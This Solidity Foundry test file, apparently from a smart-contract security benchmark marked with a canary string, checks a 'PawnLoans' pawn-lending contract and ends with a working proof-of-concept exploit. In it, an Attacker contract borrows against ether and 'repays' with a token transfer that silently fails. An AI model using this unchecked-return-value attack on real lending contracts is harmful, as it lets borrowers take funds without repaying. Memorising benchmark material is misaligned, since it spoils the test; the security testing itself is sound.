// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./PawnLoans.sol";

// assay-canary-8b99db30-9593-42a4-aade-7c1d1e842fbc

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply = 10_000e18;

    constructor() public {
        balanceOf[msg.sender] = totalSupply;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || balanceOf[from] < amount) return false;
        allowance[from][msg.sender] -= amount;
        return move(from, to, amount);
    }

    function move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant BANK = address(0xBA2);
    address payable private constant ANA = address(0xA9A);
    uint256 private constant START = 1600000000;

    Coin private token;
    PawnLoans private loans;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        vm.prank(BANK);
        loans = new PawnLoans(IERC20(address(token)), 80e18);
        token.transfer(BANK, 5_000e18);
        token.transfer(ANA, 100e18);
        vm.startPrank(BANK);
        token.approve(address(loans), uint256(-1));
        loans.fund(2_000e18);
        vm.stopPrank();
        vm.deal(ANA, 10 ether);
        mallory = new Attacker(loans, token);
        vm.deal(address(mallory), 10 ether);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 first = loans.borrow{value: 2 ether}();
        uint256 second = loans.borrow{value: 1 ether}();
        require(token.balanceOf(ANA) == 340e18 && loans.loanLength() == 2, "lent");
        token.approve(address(loans), uint256(-1));
        loans.repay(first);
        require(token.balanceOf(ANA) == 176.8e18 && ANA.balance == 9 ether, "repaid");
        vm.stopPrank();
        vm.warp(START + 31 days);
        vm.startPrank(BANK);
        loans.forfeit(second);
        loans.transferOwnership(ANA);
        vm.stopPrank();
        require(BANK.balance == 1 ether, "forfeited");
        vm.prank(ANA);
        loans.renounceOwnership();
    }

    function test_RefusesLoans() public {
        vm.startPrank(ANA);
        vm.expectRevert("PawnLoans: nothing pledged");
        loans.borrow();
        uint256 lid = loans.borrow{value: 1 ether}();
        vm.stopPrank();
        vm.expectRevert("PawnLoans: not yours");
        loans.repay(lid);
        vm.deal(address(this), 100 ether);
        vm.expectRevert("PawnLoans: not lent");
        loans.borrow{value: 90 ether}();
        vm.expectRevert("PawnLoans: no rate");
        new PawnLoans(IERC20(address(token)), 0);
    }

    function test_RefusesLateness() public {
        vm.startPrank(ANA);
        uint256 lid = loans.borrow{value: 1 ether}();
        token.approve(address(loans), uint256(-1));
        vm.warp(START + 31 days);
        vm.expectRevert("PawnLoans: forfeited");
        loans.repay(lid);
        vm.stopPrank();
    }

    function test_RefusesTheOwner() public {
        vm.prank(ANA);
        uint256 lid = loans.borrow{value: 1 ether}();
        vm.startPrank(BANK);
        vm.expectRevert("PawnLoans: not due");
        loans.forfeit(lid);
        vm.expectRevert("PawnLoans: not paid");
        loans.fund(4_000e18);
        vm.warp(START + 31 days);
        loans.forfeit(lid);
        vm.expectRevert("PawnLoans: no loan");
        loans.forfeit(lid);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        uint256 lid = loans.borrow{value: 1 ether}();
        vm.expectRevert("Ownable: caller is not the owner");
        loans.fund(0);
        vm.warp(START + 31 days);
        vm.expectRevert("Ownable: caller is not the owner");
        loans.forfeit(lid);
    }

    function test_RefusesADeafOwner() public {
        vm.prank(BANK);
        loans.transferOwnership(address(token));
        vm.prank(ANA);
        uint256 lid = loans.borrow{value: 1 ether}();
        vm.warp(START + 31 days);
        vm.prank(address(token));
        vm.expectRevert("PawnLoans: not sent");
        loans.forfeit(lid);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 700e18 && address(mallory).balance == 10 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function funds() public view returns (uint256) {
        return token.balanceOf(address(loans)) + address(loans).balance * 80;
    }
}

contract Attacker {
    PawnLoans private loans;
    Coin private token;

    constructor(PawnLoans l, Coin t) public {
        loans = l;
        token = t;
    }

    receive() external payable {}

    function run() external {
        uint256 lid = loans.borrow{value: 10 ether}();
        loans.repay(lid);
    }
}
